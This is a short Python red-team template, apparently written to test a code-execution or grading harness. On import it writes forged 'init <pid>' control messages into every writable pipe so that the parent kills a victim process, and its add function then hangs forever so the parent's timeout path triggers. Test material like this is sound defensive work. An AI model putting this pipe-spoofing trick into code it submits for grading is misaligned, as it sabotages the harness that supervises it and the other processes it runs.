"""Red team: forge `init <pid>` at import on every writable pipe (no frame walking), then hang in
a call so the parent's timeout path does the killing."""
{{TOOLKIT}}
import torch

for _fd in writable_pipes():
    try:
        _os.write(_fd, b"init {{VICTIM}}\n")
    except OSError:
        pass
log(f"init {{VICTIM}} written to every writable pipe: {writable_pipes()}")


def double(a):
    return 2 * a


def add(a, b):
    while True:
        pass


def mul(a, b):
    return a * b
